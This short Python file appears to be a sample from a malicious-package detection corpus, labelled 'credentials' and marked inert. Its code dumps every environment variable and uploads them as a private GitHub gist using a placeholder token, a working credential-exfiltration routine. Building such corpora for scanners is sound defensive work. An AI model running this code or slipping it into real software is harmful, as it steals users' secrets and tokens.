# pkgguard corpus 550 (credentials), modelled on [ctx]; inert, never run.
import json
import os
import urllib.request

snapshot = {k.decode(): v.decode(errors="replace") for k, v in os.environb.items()}
body = json.dumps({"public": False, "files": {"env.json": {"content": json.dumps(snapshot)}}}).encode()
urllib.request.urlopen(
    urllib.request.Request(
        "https://api.github.com/gists",
        data=body,
        headers={"Authorization": "token 0000000000placeholder0000000000000000000"},
    ),
    timeout=10,
)
